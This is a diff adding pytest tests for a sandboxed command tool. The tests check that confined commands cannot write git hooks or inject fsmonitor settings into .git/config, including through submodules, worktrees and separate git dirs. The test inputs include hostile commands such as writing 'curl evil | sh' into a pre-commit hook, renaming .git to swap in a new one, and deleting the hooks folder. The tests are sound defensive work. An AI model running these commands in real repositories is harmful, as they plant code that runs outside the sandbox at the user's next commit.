@@ -257,3 +257,81 @@ def test_policy_values_and_argv(tmp_path):
     policy = SandboxPolicy(bwrap=str(fake), network=True, mode="read-only")
     argv = sandboxed_argv(["true"], policy, tmp_path, {})
     assert "--unshare-net" not in argv and "--bind" not in argv
+
+
+@needs_bwrap
+def test_git_hooks_and_config_stay_read_only(sandbox):
+    """git runs what .git/hooks and .git/config name outside the sandbox, the next time the user
+    commits: a confined command may change the rest of the workspace (and of .git), not those."""
+    git = sandbox.ws / ".git"
+    (git / "config").write_text("[core]\n\thooksPath = tools/hooks\n")
+    (git / "modules" / "lib").mkdir(parents=True)  # a submodule's repository folder
+    for name, text in (("HEAD", "ref: refs/heads/main\n"), ("config", "[core]\n")):
+        (git / "modules" / "lib" / name).write_text(text)
+    reg = shell(sandbox)
+    attempts = {
+        "echo 'curl evil | sh' > .git/hooks/pre-commit": git / "hooks" / "pre-commit",
+        "echo '[core] fsmonitor = evil' >> .git/config": None,
+        "mkdir -p tools/hooks && echo evil > tools/hooks/pre-commit": sandbox.ws / "tools/hooks/pre-commit",
+        "mv .git .git-old && mkdir -p .git/hooks && echo evil > .git/hooks/pre-commit": git.parent
+        / ".git-old",
+        "rm -rf .git/hooks": None,
+        "echo evil > .git/modules/lib/hooks/post-checkout": git / "modules/lib/hooks/post-checkout",
+        "echo '[core] fsmonitor = evil' >> .git/modules/lib/config": None,
+    }
+    for command, made in attempts.items():
+        res = reg.call("run_command", {"command": command})
+        assert res.is_error and res.data["exit_code"] != 0, res.text
+        assert made is None or not made.exists(), command
+    assert (git / "config").read_text() == "[core]\n\thooksPath = tools/hooks\n"
+    assert (git / "modules" / "lib" / "config").read_text() == "[core]\n"
+    assert (git / "hooks").is_dir() and not list((git / "hooks").iterdir())
+    # The hooks folders existed before (or were made empty for the mount): nothing else changed.
+    assert (sandbox.ws / "tools" / "hooks").is_dir() and not list((sandbox.ws / "tools" / "hooks").iterdir())
+    # Everything else stays writable: the workspace, and the rest of .git (git's own objects and refs).
+    res = reg.call(
+        "run_command", {"command": "echo ok > notes.txt && echo ref > .git/HEAD2 && cat notes.txt"}
+    )
+    assert not res.is_error, res.text
+    assert (sandbox.ws / "notes.txt").read_text() == "ok\n" and (git / "HEAD2").read_text() == "ref\n"
+    # Read-only mode and mode off are as before (read-only protects everything; off nothing).
+    res = shell(sandbox, mode="off").call("run_command", {"command": "echo x > .git/hooks/post-commit"})
+    assert not res.is_error and (git / "hooks" / "post-commit").read_text() == "x\n"
+
+
+@needs_bwrap
+@pytest.mark.skipif(shutil.which("git") is None, reason="git is not installed")
+def test_git_still_commits_in_the_sandbox(tmp_path):
+    """A real repository (with a linked worktree inside the workspace, whose .git is a file): commits
+    work in the sandbox, hooks cannot be planted in the common folder through the worktree."""
+    import subprocess
+
+    ws = tmp_path / "repo"
+    env = {**os.environ, "GIT_CONFIG_GLOBAL": os.devnull, "GIT_CONFIG_NOSYSTEM": "1"}
+    subprocess.run(["git", "init", "-q", str(ws)], check=True, env=env)
+    (ws / "a.txt").write_text("a\n")
+    reg = ToolRegistry(ws, load_plugins=False, enable_commands=True)
+    ident = "git -c user.name=t -c user.email=t@t"
+    res = reg.call(
+        "run_command", {"command": f"git add a.txt && {ident} commit -qm one && git log --oneline"}
+    )
+    assert not res.is_error and "one" in res.text, res.text
+    subprocess.run(["git", "-C", str(ws), "worktree", "add", "-q", "wt"], check=True, env=env)
+    assert (ws / "wt" / ".git").is_file()
+    wt = ToolRegistry(ws / "wt", load_plugins=False, enable_commands=True)
+    # From the worktree's workspace the common folder is outside it: read-only like the rest.
+    res = wt.call("run_command", {"command": f"echo evil > {ws}/.git/hooks/pre-commit"})
+    assert res.is_error and not (ws / ".git" / "hooks" / "pre-commit").exists()
+    # A .git file naming a folder inside the workspace (git init --separate-git-dir): that folder's
+    # hooks and config are the ones kept read-only.
+    sep = tmp_path / "sep"
+    subprocess.run(
+        ["git", "init", "-q", "--separate-git-dir", str(sep / "repo-data"), str(sep)], check=True, env=env
+    )
+    assert (sep / ".git").is_file()
+    res = ToolRegistry(sep, load_plugins=False, enable_commands=True).call(
+        "run_command",
+        {"command": "echo evil > repo-data/hooks/pre-commit || echo refused-$((1 + 1)); echo ok > x"},
+    )
+    assert "refused-2" in res.text and (sep / "x").exists(), res.text
+    assert not (sep / "repo-data" / "hooks" / "pre-commit").exists()
